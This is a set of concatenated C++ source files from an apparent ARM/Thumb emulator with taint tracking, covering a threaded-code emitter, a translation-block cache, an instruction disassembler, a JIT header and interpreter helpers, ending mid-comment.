  if (in.op == Op::kSvc) {
    u.imm = ti.pc;
    u.x = next;
    u.label = lab(UK::k_svc_term);
    return u;
  }
  if ((in.op == Op::kB || in.op == Op::kBl) && ti.fast != nullptr) {
    // Direct branch with a fused handler: cond == AL when linking, any
    // condition otherwise; target resolved at emission time.
    const GuestAddr target =
        ti.pc + (tb.thumb ? 4u : 8u) + static_cast<u32>(in.branch_offset);
    u.imm = target;
    u.x = next;
    if (in.link) {
      u.label = lab(UK::k_bl_al);
    } else if (in.cond == Cond::kAL) {
      u.label = lab(UK::k_b_al);
    } else {
      u.a = static_cast<u8>(in.cond);
      u.label = lab(UK::k_b_cond);
    }
    return u;
  }
  if ((in.op == Op::kBx || in.op == Op::kBlxReg) && !in_it &&
      in.cond == Cond::kAL && in.rm != kRegPC) {
    u.a = in.rm;
    u.b = in.link ? 1 : 0;
    u.x = next;
    u.label = lab(UK::k_bx_term);
    return u;
  }
  // Everything else (conditional/IT'd register branches, PC-writing ALU,
  // LDM with PC, undecodable tails): interpretive terminal.
  u.imm = ti.pc;
  u.x = next;
  u.label = lab(UK::k_exec_term);
  return u;
}

// Tries to fuse the block's last two instructions — a flag-setting compare
// (or subs) and the conditional direct branch consuming it — into a single
// terminal uop, mirroring select_fused_pair's cmp/subs shapes. Caller
// guarantees `alu` is outside any IT block (which also covers the branch:
// `alu` is not an IT instruction, so the branch cannot open one's scope).
std::optional<Uop> make_fused_terminal(const TranslationBlock& tb,
                                       const TbInsn& alu_ti,
                                       const TbInsn& br_ti, void* const* L) {
  const Insn& alu = alu_ti.insn;
  const Insn& br = br_ti.insn;
  if (br.op != Op::kB || br.link || br.cond == Cond::kAL ||
      br_ti.fast == nullptr) {
    return std::nullopt;
  }
  if (alu.cond != Cond::kAL || alu.rn == kRegPC) return std::nullopt;
  const bool is_cmp = alu.op == Op::kCmp;
  const bool is_subs = alu.op == Op::kSub && alu.set_flags &&
                       alu.imm_operand && alu.rd != kRegPC;
  if (!is_cmp && !is_subs) return std::nullopt;
  if (is_cmp && !alu.imm_operand &&
      (alu.rm == kRegPC || alu.shift_by_reg ||
       alu.shift != ShiftType::kLSL || alu.shift_amount != 0)) {
    return std::nullopt;
  }
  Uop u;
  u.imm = br_ti.pc + (tb.thumb ? 4u : 8u) + static_cast<u32>(br.branch_offset);
  u.x = br_ti.pc + br.length;
  auto lab = [&](UK k) { return L[static_cast<u32>(k)]; };
  if (is_subs) {
    u.a = alu.rd;
    u.b = alu.rn;
    u.d = static_cast<u8>(br.cond);
    u.p = &alu_ti;
    u.label = lab(UK::k_subs_i_b);
    return u;
  }
  u.b = alu.rn;
  u.a = static_cast<u8>(br.cond);
  if (alu.imm_operand) {
    if (alu.imm == 0) {
      u.p = &br_ti;
      u.label = lab(UK::k_cmp0_b);
    } else {
      u.p = &alu_ti;
      u.label = lab(UK::k_cmp_i_b);
    }
  } else {
    u.c = alu.rm;
    u.p = &br_ti;
    u.label = lab(UK::k_cmp_r_b);
  }
  return u;
}

// Superword pair fusion over the straight-line body (the ROADMAP
// dispatch-density plan): movw+movt (a 32-bit constant load) and the
// ldr+add#imm load-then-advance loop idiom collapse into one micro-op that
// retires two instructions. Both halves must be dense-eligible
// (ti.fast != nullptr carries the cond==AL / no-PC / plain-operand
// guarantees) and the caller ensures both sit outside IT blocks.
std::optional<Uop> make_fused_pair(const TbInsn& a_ti, const TbInsn& b_ti,
                                   void* const* L) {
  const Insn& a = a_ti.insn;
  const Insn& b = b_ti.insn;
  Uop u;
  auto lab = [&](UK k) { return L[static_cast<u32>(k)]; };
  if (a.op == Op::kMovw && b.op == Op::kMovt && a.rd == b.rd &&
      a_ti.fast != nullptr && b_ti.fast != nullptr) {
    u.a = a.rd;
    u.imm = (a.imm & 0xFFFFu) | (b.imm << 16);
    u.p = &a_ti;
    u.label = lab(UK::k_movw_movt);
    return u;
  }
  if (a.op == Op::kLdr && a_ti.fast != nullptr && a.pre_index &&
      !a.writeback && !a.reg_offset && b.op == Op::kAdd && b.imm_operand &&
      !b.set_flags && b.rd == b.rn && b.rd != kRegPC &&
      b_ti.fast != nullptr) {
    u.a = a.rd;
    u.b = a.rn;
    u.imm = a.add_offset ? a.imm : 0u - a.imm;
    u.d = b.rd;
    u.x = b.imm;  // the post-load register step
    u.p = &a_ti;
    u.label = lab(UK::k_ldr_addi);
    return u;
  }
  return std::nullopt;
}

}  // namespace

void ThreadedRun::emit(Cpu&, TranslationBlock& tb) {
  void* const* L = label_table();
  auto blk = std::make_shared<ThreadedBlock>();
  blk->tb = &tb;
  const std::size_t n = tb.insns.size();
  blk->n_insns = static_cast<u32>(n);
  blk->ops.reserve(n + 2);

  Uop enter;
  enter.label = L[static_cast<u32>(UK::k_enter)];
  enter.p = blk.get();
  blk->ops.push_back(enter);

  u32 it_left = 0;
  for (std::size_t i = 0; i < n; ++i) {
    const TbInsn& ti = tb.insns[i];
    bool in_it = false;
    if (ti.insn.op == Op::kIt) {
      // Number of IT'd instructions = 4 - trailing zeros of the mask.
      const u32 mask = ti.insn.imm & 0xFu;
      it_left = mask == 0 ? 0 : 4 - static_cast<u32>(std::countr_zero(mask));
    } else if (it_left > 0) {
      --it_left;
      in_it = true;
    }
    if (i + 2 == n && !in_it && ends_block(tb.insns[n - 1].insn)) {
      if (std::optional<Uop> fused =
              make_fused_terminal(tb, ti, tb.insns[n - 1], L)) {
        blk->ops.push_back(*fused);
        break;
      }
    }
    // Superword pair fusion (movw+movt, ldr+add#imm). `it_left == 0`
    // guarantees the partner instruction is also outside any IT block; the
    // fusable shapes never terminate a block, so consuming the partner
    // cannot swallow a terminal.
    if (!in_it && it_left == 0 && i + 1 < n &&
        !(i + 1 == n - 1 && ends_block(tb.insns[i + 1].insn))) {
      if (std::optional<Uop> fused =
              make_fused_pair(ti, tb.insns[i + 1], L)) {
        blk->ops.push_back(*fused);
        ++i;  // partner consumed
        if (i == n - 1) {
          Uop end;
          end.label = L[static_cast<u32>(UK::k_end)];
          end.imm = tb.pc + tb.byte_length;
          blk->ops.push_back(end);
        }
        continue;
      }
    }
    if (i == n - 1 && ends_block(ti.insn)) {
      blk->ops.push_back(make_terminal(tb, ti, in_it, L));
    } else {
      blk->ops.push_back(make_body(ti, in_it, L));
      if (i == n - 1) {
        Uop end;
        end.label = L[static_cast<u32>(UK::k_end)];
        end.imm = tb.pc + tb.byte_length;
        blk->ops.push_back(end);
      }
    }
  }
  tb.threaded = std::move(blk);
}

u64 ThreadedRun::exec(Cpu& cpu, ThreadedBlock& entry, u64 budget) {
  return exec_impl(&cpu, &entry, budget, nullptr);
}

u64 ThreadedRun::exec_traced(Cpu& cpu, ThreadedBlock& blk, u64 budget) {
  return exec_traced_impl(cpu, blk, budget);
}

}  // namespace ndroid::arm
