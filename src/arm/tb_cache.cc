#include "arm/tb_cache.h"

#include <algorithm>

namespace ndroid::arm {

TbCache::TbCache() : code_pages_(1u << (32 - kPageShift), 0) {}

std::shared_ptr<TranslationBlock> TbCache::lookup(GuestAddr pc, bool thumb) {
  ++lookups_;
  auto it = blocks_.find(key(pc, thumb));
  if (it == blocks_.end()) return nullptr;
  ++hits_;
  return it->second;
}

void TbCache::insert(std::shared_ptr<TranslationBlock> tb) {
  ++translations_;
  const u32 first_page = tb->pc >> kPageShift;
  const u32 last_page =
      (tb->pc + (tb->byte_length == 0 ? 0 : tb->byte_length - 1)) >>
      kPageShift;
  for (u32 page = first_page; page <= last_page; ++page) {
    page_blocks_[page].push_back(tb.get());
    if (code_pages_[page] == 0) {
      code_pages_[page] = 1;
      // The page just became write-watched; any write-TLB entry cached for
      // it while unwatched must be dropped (see set_watch_armed_notifier).
      if (watch_armed_) watch_armed_(page);
    }
  }
  blocks_[key(tb->pc, tb->thumb)] = std::move(tb);
}

void TbCache::kill_block(TranslationBlock* tb) {
  if (tb->dead) return;
  tb->dead = true;
  ++invalidated_;
  ++version_;
  // Keep the block alive past its own cleanup: the executor may be running
  // it (or an outer frame may hold a raw pointer), so park it in the
  // graveyard until the Cpu signals a safe point.
  auto it = blocks_.find(key(tb->pc, tb->thumb));
  if (it != blocks_.end() && it->second.get() == tb) {
    graveyard_.push_back(std::move(it->second));
    blocks_.erase(it);
  }
  const u32 first_page = tb->pc >> kPageShift;
  const u32 last_page =
      (tb->pc + (tb->byte_length == 0 ? 0 : tb->byte_length - 1)) >>
      kPageShift;
  for (u32 page = first_page; page <= last_page; ++page) {
    auto pit = page_blocks_.find(page);
    if (pit == page_blocks_.end()) continue;
    std::erase(pit->second, tb);
    if (pit->second.empty()) {
      page_blocks_.erase(pit);
      code_pages_[page] = 0;
    }
  }
}

void TbCache::invalidate_range(GuestAddr addr, u32 len) {
  if (len == 0) return;
  const u32 first_page = addr >> kPageShift;
  const u32 last_page = (addr + len - 1) >> kPageShift;
  const GuestAddr end = addr + len;
  // Collect first: kill_block edits the page lists being walked.
  std::vector<TranslationBlock*> victims;
  for (u32 page = first_page; page <= last_page; ++page) {
    auto it = page_blocks_.find(page);
    if (it == page_blocks_.end()) continue;
    for (TranslationBlock* tb : it->second) {
      if (!tb->dead && tb->pc < end && tb->pc + tb->byte_length > addr) {
        victims.push_back(tb);
      }
    }
  }
  for (TranslationBlock* tb : victims) kill_block(tb);
}

void TbCache::flush() {
  ++flushes_;
  ++version_;
  invalidated_ += blocks_.size();
  for (auto& [k, tb] : blocks_) {
    tb->dead = true;
    graveyard_.push_back(std::move(tb));
  }
  blocks_.clear();
  for (auto& [page, list] : page_blocks_) code_pages_[page] = 0;
  page_blocks_.clear();
}

}  // namespace ndroid::arm
