#include "arm/insn.h"

#include <sstream>

namespace ndroid::arm {

TaintClass Insn::taint_class() const {
  switch (op) {
    case Op::kAnd:
    case Op::kEor:
    case Op::kSub:
    case Op::kRsb:
    case Op::kAdd:
    case Op::kAdc:
    case Op::kSbc:
    case Op::kRsc:
    case Op::kOrr:
    case Op::kBic:
    case Op::kMul:
    case Op::kMla:
    case Op::kUmull:
    case Op::kSmull:
    case Op::kSdiv:
    case Op::kUdiv:
      return TaintClass::kBinaryOp3;
    case Op::kMvn:
    case Op::kClz:
    case Op::kSxtb:
    case Op::kSxth:
    case Op::kUxtb:
    case Op::kUxth:
      return imm_operand ? TaintClass::kMovImm : TaintClass::kUnary;
    case Op::kMov:
      return imm_operand ? TaintClass::kMovImm : TaintClass::kMovReg;
    case Op::kMovw:
      return TaintClass::kMovImm;
    case Op::kMovt:
      // MOVT keeps the low half of Rd: treat as binary Rd = Rd op imm.
      return TaintClass::kBinaryOp2;
    case Op::kLdr:
    case Op::kLdrb:
    case Op::kLdrh:
    case Op::kLdrsb:
    case Op::kLdrsh:
      return TaintClass::kLoad;
    case Op::kStr:
    case Op::kStrb:
    case Op::kStrh:
      return TaintClass::kStore;
    case Op::kLdm:
      return TaintClass::kLdm;
    case Op::kStm:
      return TaintClass::kStm;
    case Op::kTst:
    case Op::kTeq:
    case Op::kCmp:
    case Op::kCmn:
    case Op::kB:
    case Op::kBl:
    case Op::kBx:
    case Op::kBlxReg:
    case Op::kTbb:
    case Op::kTbh:
    case Op::kSvc:
    case Op::kNop:
    case Op::kIt:
    case Op::kUndefined:
      return TaintClass::kNone;
  }
  return TaintClass::kNone;
}

std::string to_string(Op op) {
  switch (op) {
    case Op::kUndefined: return "udf";
    case Op::kAnd: return "and";
    case Op::kEor: return "eor";
    case Op::kSub: return "sub";
    case Op::kRsb: return "rsb";
    case Op::kAdd: return "add";
    case Op::kAdc: return "adc";
    case Op::kSbc: return "sbc";
    case Op::kRsc: return "rsc";
    case Op::kTst: return "tst";
    case Op::kTeq: return "teq";
    case Op::kCmp: return "cmp";
    case Op::kCmn: return "cmn";
    case Op::kOrr: return "orr";
    case Op::kMov: return "mov";
    case Op::kBic: return "bic";
    case Op::kMvn: return "mvn";
    case Op::kMovw: return "movw";
    case Op::kMovt: return "movt";
    case Op::kMul: return "mul";
    case Op::kMla: return "mla";
    case Op::kUmull: return "umull";
    case Op::kSmull: return "smull";
    case Op::kSdiv: return "sdiv";
    case Op::kUdiv: return "udiv";
    case Op::kClz: return "clz";
    case Op::kSxtb: return "sxtb";
    case Op::kSxth: return "sxth";
    case Op::kUxtb: return "uxtb";
    case Op::kUxth: return "uxth";
    case Op::kLdr: return "ldr";
    case Op::kLdrb: return "ldrb";
    case Op::kLdrh: return "ldrh";
    case Op::kLdrsb: return "ldrsb";
    case Op::kLdrsh: return "ldrsh";
    case Op::kStr: return "str";
    case Op::kStrb: return "strb";
    case Op::kStrh: return "strh";
    case Op::kLdm: return "ldm";
    case Op::kStm: return "stm";
    case Op::kB: return "b";
    case Op::kBl: return "bl";
    case Op::kBx: return "bx";
    case Op::kBlxReg: return "blx";
    case Op::kTbb: return "tbb";
    case Op::kTbh: return "tbh";
    case Op::kSvc: return "svc";
    case Op::kNop: return "nop";
    case Op::kIt: return "it";
  }
  return "?";
}

std::string to_string(Cond cond) {
  switch (cond) {
    case Cond::kEQ: return "eq";
    case Cond::kNE: return "ne";
    case Cond::kCS: return "cs";
    case Cond::kCC: return "cc";
    case Cond::kMI: return "mi";
    case Cond::kPL: return "pl";
    case Cond::kVS: return "vs";
    case Cond::kVC: return "vc";
    case Cond::kHI: return "hi";
    case Cond::kLS: return "ls";
    case Cond::kGE: return "ge";
    case Cond::kLT: return "lt";
    case Cond::kGT: return "gt";
    case Cond::kLE: return "le";
    case Cond::kAL: return "";
  }
  return "?";
}

namespace {
std::string reg_name(u8 r) {
  switch (r) {
    case 13: return "sp";
    case 14: return "lr";
    case 15: return "pc";
    default: return "r" + std::to_string(r);
  }
}
}  // namespace

std::string disassemble(const Insn& insn, GuestAddr pc) {
  std::ostringstream os;
  os << to_string(insn.op) << to_string(insn.cond);
  if (insn.set_flags) os << "s";
  os << " ";
  switch (insn.taint_class()) {
    case TaintClass::kBinaryOp3:
      os << reg_name(insn.rd) << ", " << reg_name(insn.rn) << ", ";
      if (insn.imm_operand) {
        os << "#" << insn.imm;
      } else {
        os << reg_name(insn.rm);
      }
      break;
    case TaintClass::kBinaryOp2:
      os << reg_name(insn.rd) << ", #" << insn.imm;
      break;
    case TaintClass::kUnary:
    case TaintClass::kMovReg:
      os << reg_name(insn.rd) << ", " << reg_name(insn.rm);
      break;
    case TaintClass::kMovImm:
      os << reg_name(insn.rd) << ", #" << insn.imm;
      break;
    case TaintClass::kLoad:
    case TaintClass::kStore:
      os << reg_name(insn.rd) << ", [" << reg_name(insn.rn);
      if (insn.reg_offset) {
        os << ", " << (insn.add_offset ? "" : "-") << reg_name(insn.rm);
      } else if (insn.imm != 0) {
        os << ", #" << (insn.add_offset ? "" : "-") << insn.imm;
      }
      os << "]";
      if (insn.writeback) os << "!";
      break;
    case TaintClass::kLdm:
    case TaintClass::kStm: {
      os << reg_name(insn.rn) << (insn.writeback ? "!" : "") << ", {";
      bool first = true;
      for (u8 r = 0; r < 16; ++r) {
        if (insn.reglist & (1u << r)) {
          if (!first) os << ",";
          os << reg_name(r);
          first = false;
        }
      }
      os << "}";
      break;
    }
    case TaintClass::kNone:
      switch (insn.op) {
        case Op::kB:
        case Op::kBl:
          os << "0x" << std::hex
             << (pc + (insn.length == 2 ? 4 : 8) + insn.branch_offset);
          break;
        case Op::kBx:
        case Op::kBlxReg:
          os << reg_name(insn.rm);
          break;
        case Op::kTbb:
          os << "[" << reg_name(insn.rn) << ", " << reg_name(insn.rm) << "]";
          break;
        case Op::kTbh:
          os << "[" << reg_name(insn.rn) << ", " << reg_name(insn.rm)
             << ", lsl #1]";
          break;
        case Op::kCmp:
        case Op::kCmn:
        case Op::kTst:
        case Op::kTeq:
          os << reg_name(insn.rn) << ", ";
          if (insn.imm_operand) {
            os << "#" << insn.imm;
          } else {
            os << reg_name(insn.rm);
          }
          break;
        case Op::kSvc:
          os << "#" << insn.imm;
          break;
        default:
          break;
      }
      break;
  }
  return os.str();
}

}  // namespace ndroid::arm
