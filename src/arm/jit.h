// Template JIT tier: host x86-64 code emission over the micro-op IR.
//
// The threaded tier (arm/threaded.{h,cc}) already did the hard lifting —
// per-block flat micro-op streams with fully pre-resolved operands — so this
// backend is a *template* JIT in the classic sense: JitRun::compile walks a
// block's Uop stream (recovering each op's kind through
// ThreadedRun::label_table) and appends a fixed x86-64 code template per
// dense op into a per-engine executable code arena. Dense DP ALU ops, the
// shift-imm MOVs, long multiplies, loads/stores with the inline read/write
// TLB probe (slow path = call-out into the shared uop kernels), the
// superword-fused pairs, and the cmp/subs+conditional-branch fused terminals
// all lower to straight host code; rare shapes (LDM/STM, generic execute()
// ops, dynamic-target terminals) call out into C++ transliterations of the
// corresponding threaded labels, so the two tiers keep bit-identical
// semantics by construction.
//
// Direct block linking carries the threaded protocol over unchanged: each
// JitBlock owns two HostSlots (taken / fall-through) holding a TbCache
// version tag and the successor's code pointer. Emitted link tails load the
// slot's version, compare against the live cache version (address baked into
// the code), and on a match jump straight to the successor — so any
// kill/flush (SMC invalidation included) voids every patched host edge at
// once, exactly like the threaded ExitSlots. Slots live in heap JitBlock
// metadata, never in the arena, so patching needs no mprotect and the W^X
// mode keeps the arena execute-only outside compilation.
//
// Arena lifecycle: bump allocation, no per-block free. Killed blocks keep
// their (now unreachable) code until the arena fills; exhaustion sets a
// flush request that the run_jit trampoline honours at the next safe point
// (exec_depth_ == 0): flush all blocks, drain the graveyard, reset the
// arena, bump the arena generation, and recompile on demand.
//
// Taint-fused traced stream: when the analysis client installs a
// Cpu::TaintJitView (single fused instruction hook + block gate), compile
// emits a *second* host-code body per block — the traced stream — into the
// same arena allocation, right after the clean body. Traced templates
// prefix each instruction with its Table V taint transfer inlined over the
// engine's raw register-label file (base pinned in RBP), probe a
// direct-mapped shadow-page TLB for load label reads (same 16-byte slot
// shape as the data TLB), fold the tracer's statistics counters into each
// exit, and defer register count/mask/epoch bookkeeping to a sync callout
// (TaintEngine::jit_resync) at every exit. Instructions the emitter could
// not prove inlineable call out per instruction instead of abandoning the
// whole block. Stream selection replays the threaded tier's epoch-memoised
// gate in C++ (resolve / run_jit) with every inter-block edge forced
// through the slow resolver while instruction hooks are live, so taint
// liveness flipping re-routes edges between the two streams without
// re-emission — the same version-fenced link protocol either way.
//
// `NDROID_NO_JIT` (or a non-x86-64 host) compiles the backend down to
// stubs: jit_available() is false, set_jit_enabled is a no-op, and
// `--engine jit` degrades to the threaded tier with superword fusion.
#pragma once

#include <cstddef>
#include <memory>

#include "arm/threaded.h"
#include "mem/address_space.h"

namespace ndroid::arm {

class Cpu;

#if defined(__x86_64__) && !defined(NDROID_NO_JIT)
#define NDROID_JIT_X64 1
#endif

/// A version-fenced host link slot — the jit twin of ExitSlot. `target` is
/// the successor JitBlock's code entry; valid only while `version` matches
/// the live TbCache version (and the arena generation the code was emitted
/// into is still current, which the patch protocol guarantees).
struct HostSlot {
  u64 version = ~0ull;  // never a live TbCache version
  u64 key = 0;
  const void* target = nullptr;
};

/// Host-code lowering of one ThreadedBlock. Heap-allocated (stable address:
/// emitted code holds pointers to the slots and to itself) and owned by the
/// ThreadedBlock, so the graveyard protocol keeps it alive until no
/// executor frame is live.
struct JitBlock {
  ThreadedBlock* blk = nullptr;
  const u8* code = nullptr;  // entry of the emitted clean block body
  /// Entry of the taint-fused traced body, emitted into the *same* arena
  /// allocation right after the clean body (one alloc per compile, so an
  /// arena flush can never strand one stream of a pair). Null when no
  /// TaintJitView was installed at compile time or the traced emission
  /// bailed (gate-fired executions then fall back to the threaded tier).
  const u8* traced_entry = nullptr;
  u32 code_size = 0;  // total: clean body + traced body
  u64 arena_gen = 0;  // arena generation the code was emitted into
  HostSlot slots[2];  // [0] = taken edge, [1] = fall-through edge
};

/// Bump-allocated executable memory. Default mode maps one RWX region;
/// `wx` mode keeps the arena RW only between begin_write()/end_write()
/// (i.e. while JitRun::compile runs, never while guest code executes) and
/// RX otherwise.
class CodeArena {
 public:
  CodeArena(std::size_t capacity, bool wx);
  ~CodeArena();
  CodeArena(const CodeArena&) = delete;
  CodeArena& operator=(const CodeArena&) = delete;

  /// 16-byte-aligned bump allocation; nullptr when the remaining capacity
  /// cannot hold `n` bytes (the caller schedules an arena flush).
  u8* alloc(std::size_t n);
  void reset() { used_ = 0; }

  void begin_write();  // wx: whole arena RW (compile-time only)
  void end_write();    // wx: whole arena RX

  [[nodiscard]] bool valid() const { return base_ != nullptr; }
  [[nodiscard]] std::size_t used() const { return used_; }
  [[nodiscard]] std::size_t capacity() const { return capacity_; }
  [[nodiscard]] const u8* base() const { return base_; }

 private:
  u8* base_ = nullptr;
  std::size_t capacity_ = 0;
  std::size_t used_ = 0;
  bool wx_ = false;
};

/// Per-Cpu jit backend state: the code arena, the per-generation entry /
/// epilogue glue, and the baked-in invariants (TLB array layout, cache
/// version address) the templates load through.
struct JitEngine {
  JitEngine(std::size_t arena_bytes, bool wx) : arena(arena_bytes, wx) {}

  CodeArena arena;
  u64 generation = 1;
  /// Set when the arena could not hold a block; run_jit honours it at the
  /// next exec_depth_==0 safe point (flush + drain + reset + ++generation).
  bool flush_pending = false;

  /// Prologue glue: saves callee-saved registers, pins the state/ctx/TLB
  /// registers, and jumps into block code. Re-emitted per generation.
  using EntryFn = void (*)(void* ctx, const void* code);
  EntryFn entry = nullptr;
  const u8* epilogue = nullptr;
};

/// Static entry points of the jit tier (friend of Cpu), mirroring
/// ThreadedRun.
struct JitRun {
  /// Compiles `blk`'s micro-op stream to host code and attaches it as
  /// blk.jit. Returns false when the arena is exhausted (flush_pending is
  /// set and the caller executes the block through the threaded tier).
  static bool compile(Cpu& cpu, ThreadedBlock& blk);

  /// Runs compiled code starting at `at` (the entry block's clean body or
  /// its traced body, as the gate decided), following patched host links,
  /// for at most `budget` instructions. Same contract as
  /// ThreadedRun::exec: PC architecturally correct on return, returns
  /// instructions retired (0 = budget could not cover the entry block).
  static u64 exec(Cpu& cpu, ThreadedBlock& entry, const u8* at, u64 budget);

  /// Creates the Cpu's JitEngine on first use and (re-)emits the per-
  /// generation prologue/epilogue glue. False when host code cannot run
  /// here (mmap failure, TLB layout drift) — the caller degrades to the
  /// threaded tier.
  static bool ensure_engine(Cpu& cpu);

  /// Honours a pending arena-exhaustion flush at an exec_depth_ == 0 safe
  /// point: drop all blocks, drain the graveyard, reset the arena, bump the
  /// generation, re-emit the glue. False when the glue no longer fits.
  static bool arena_flush(Cpu& cpu);

  // --- Callouts from emitted code (SysV ABI) ----------------------------
  // Declared here so they share Cpu's friendship with the rest of the
  // tier; signatures use opaque pointers to keep the execution context
  // (jit.cc's JitCtx) out of the public header. `resolve` is the shared
  // edge-resolution tail (threaded link_edge/link_fall transliterated);
  // the co_* wrappers add the per-terminal semantics and the exception
  // fence (C++ exceptions cannot unwind through emitted frames, so they
  // are parked in the context and rethrown by exec()).
  static const void* resolve(void* ctx, void* jb, u32 slot_idx, u32 from,
                             u32 to, u32 taken);
  static const void* co_edge(void* ctx, void* jb, u32 slot_idx, u32 from,
                             u32 to, u32 taken);
  static const void* co_bx(void* ctx, void* jb, const void* uop);
  static const void* co_exec_term(void* ctx, void* jb, const void* uop);
  static const void* co_svc_term(void* ctx, void* jb, const void* uop);

  // Traced-stream callouts. `co_trace_step` dispatches one non-inlineable
  // TraceOp (after syncing the raw label writes accumulated since the
  // last callout — `written` — so the handler observes consistent
  // bookkeeping); it returns 0 on success, 1 with an exception parked.
  // `co_taint_sync` is the bare exit resync; `co_shadow_read` /
  // `co_shadow_write` are the shadow-TLB slow paths (miss, page straddle,
  // or a store that must move labels).
  static u64 co_trace_step(void* ctx, const void* op, const void* ti,
                           u32 written);
  static void co_taint_sync(void* ctx, u32 written);
  static u32 co_shadow_read(void* ctx, u32 addr, u32 len);
  static void co_shadow_write(void* ctx, u32 addr, u32 len, u32 taint);

  /// The threaded L_enter gate, replicated for host-code dispatch: decides
  /// (with the same epoch memoisation on `tb`) whether the registered
  /// instruction hooks fire on this block. run_jit consults it for the
  /// entry block and resolve() per inter-block crossing, selecting the
  /// traced or clean host stream.
  static bool gate_fire(Cpu& cpu, TranslationBlock& tb);
};

}  // namespace ndroid::arm
