// Interprets decoded instructions against CPUState + guest memory.
//
// The helpers `condition_passed`, `operand2_value`, and
// `mem_effective_address` are shared with NDroid's instruction tracer, which
// must compute the same addresses/operands *before* execution to apply the
// Table V taint rules (paper §V-G: "the instruction tracer parses each
// ARM/Thumb instruction and calls the related handler to complete the taint
// propagation before the instruction is executed").
#pragma once

#include "arm/cpu_state.h"
#include "arm/insn.h"
#include "mem/address_space.h"

namespace ndroid::arm {

[[nodiscard]] bool condition_passed(Cond cond, const CPUState& state);

/// Condition `insn` will execute under *right now*: inside a Thumb IT block
/// the ITSTATE condition overrides the encoded one (Thumb-16 instructions
/// all encode AL; a branch with the unconditional encoding becomes
/// conditional when IT'd). Pure peek — does not advance the ITSTATE.
[[nodiscard]] inline Cond effective_cond(const Insn& insn,
                                         const CPUState& state) {
  if (state.thumb && state.itstate != 0 && insn.op != Op::kIt) {
    return static_cast<Cond>(state.itstate >> 4);
  }
  return insn.cond;
}

/// Steps the ITSTATE past one instruction (architectural advance: shift the
/// mask left; all-zero low bits end the block). execute() calls this
/// itself; run loops that bypass execute() (taken SVC) must call it too.
inline void advance_itstate(CPUState& state) {
  state.itstate = (state.itstate & 0x07) == 0
                      ? 0
                      : static_cast<u8>((state.itstate & 0xE0) |
                                        ((state.itstate << 1) & 0x1F));
}

/// Value a register read yields inside an instruction at `pc` (PC reads as
/// pc+8 in ARM state, pc+4 in Thumb state).
[[nodiscard]] u32 read_reg(const CPUState& state, u8 reg, GuestAddr pc,
                           bool align_pc = false);

struct Operand2 {
  u32 value = 0;
  bool carry = false;
};

/// Computes the shifter operand (immediate or shifted register) and its
/// carry-out. `pc` is the address of the instruction being executed.
[[nodiscard]] Operand2 operand2_value(const Insn& insn, const CPUState& state,
                                      GuestAddr pc);

/// Effective memory address of a load/store (the post-index form returns the
/// base, which is the address actually accessed).
[[nodiscard]] GuestAddr mem_effective_address(const Insn& insn,
                                              const CPUState& state,
                                              GuestAddr pc);

/// First address accessed by an LDM/STM and the transfer count.
struct BlockTransfer {
  GuestAddr start = 0;
  u32 count = 0;
  u32 new_base = 0;
};
[[nodiscard]] BlockTransfer block_transfer(const Insn& insn,
                                           const CPUState& state);

/// Executes one instruction. On entry `state.pc()` must be the instruction's
/// address; on exit it is the next PC (sequential or branch target).
/// Interworking branches (BX/BLX/loads to PC) update `state.thumb`.
void execute(const Insn& insn, CPUState& state, mem::AddressSpace& memory);

/// True when `insn` may write the PC (or otherwise leave the straight-line
/// path): such instructions terminate a translation block. Conservative —
/// misclassifying towards "ends" only shortens blocks, never breaks them.
/// Shared by block translation (cpu.cc) and threaded-code emission
/// (threaded.cc), which must agree on where a block's terminal lives.
[[nodiscard]] bool ends_block(const Insn& insn);

// --- Shared flag/ALU kernels ------------------------------------------------
//
// The exact NZCV formulas the fused handlers use, exposed so the threaded
// micro-op bodies compute bit-identical flags without a second copy of the
// arithmetic (a divergence here would split the golden-log quadruple).

inline void set_sub_flags(CPUState& s, u32 a, u32 b) {
  const u32 r = a - b;
  s.n = (r >> 31) != 0;
  s.z = r == 0;
  s.c = a >= b;  // carry == no borrow
  s.v = (((a ^ b) & (a ^ r)) >> 31) != 0;
}

inline void set_add_flags(CPUState& s, u32 a, u32 b) {
  const u32 r = a + b;
  s.n = (r >> 31) != 0;
  s.z = r == 0;
  s.c = r < a;  // wrapped iff the 33-bit sum overflowed
  s.v = (((a ^ r) & (b ^ r)) >> 31) != 0;
}

/// Flagless data-processing result for the fused/threaded fast shapes
/// (operand 2 already resolved to a plain value by the caller).
template <Op OP>
inline u32 dp_compute(u32 a, u32 b, [[maybe_unused]] const CPUState& s) {
  if constexpr (OP == Op::kAnd) return a & b;
  if constexpr (OP == Op::kEor) return a ^ b;
  if constexpr (OP == Op::kOrr) return a | b;
  if constexpr (OP == Op::kBic) return a & ~b;
  if constexpr (OP == Op::kMov) return b;
  if constexpr (OP == Op::kMvn) return ~b;
  if constexpr (OP == Op::kSub) return a - b;
  if constexpr (OP == Op::kRsb) return b - a;
  if constexpr (OP == Op::kAdd) return a + b;
  if constexpr (OP == Op::kAdc) return a + b + (s.c ? 1 : 0);
  if constexpr (OP == Op::kSbc) return a - b - (s.c ? 0 : 1);
  if constexpr (OP == Op::kRsc) return b - a - (s.c ? 0 : 1);
  return 0;
}

/// A fused handler for one common instruction shape: semantically identical
/// to execute() for that shape, but with condition, operand form, flag
/// behaviour, and (for loads/stores) addressing mode resolved at selection
/// time instead of per execution. All fused handlers share one signature so
/// a translation block stores a single pointer and the replay loop pays a
/// single dispatch branch; ALU/branch handlers simply ignore the memory
/// argument. Direct branches may rewrite the PC; every other fused shape
/// advances it sequentially (and branches always terminate their block, so
/// replay loops still treat non-last instructions as sequential).
using FastExecFn = void (*)(const Insn&, CPUState&, mem::AddressSpace&);

/// Picks the fused ALU/branch handler for `insn`, or nullptr when the
/// instruction needs the general execute() path (conditional execution
/// outside direct branches, PC operands, shifted operands, flag shapes
/// outside ADD/SUB/CMP/CMN). Called once per instruction at block
/// translation time.
[[nodiscard]] FastExecFn select_fast_exec(const Insn& insn);

/// Picks the fused load/store handler for `insn` (LDR/LDRB/LDRH/LDRSB/
/// LDRSH/STR/STRB/STRH; offset, pre-index writeback, or post-index forms),
/// or nullptr when it needs the general path (conditional execution,
/// register offsets, PC as base or data register). The memory access goes
/// through AddressSpace's inline software-TLB fast path, so a hit is a tag
/// compare plus a host access. Called once per instruction at block
/// translation time.
[[nodiscard]] FastExecFn select_fast_mem(const Insn& insn);

/// A fused ALU-and-branch pair: executes the ALU instruction (CMP, a
/// flag-setting SUBS/ADDS, or a flagless data-processing op) followed by
/// the direct branch that terminates the block, in one call. Loop idioms
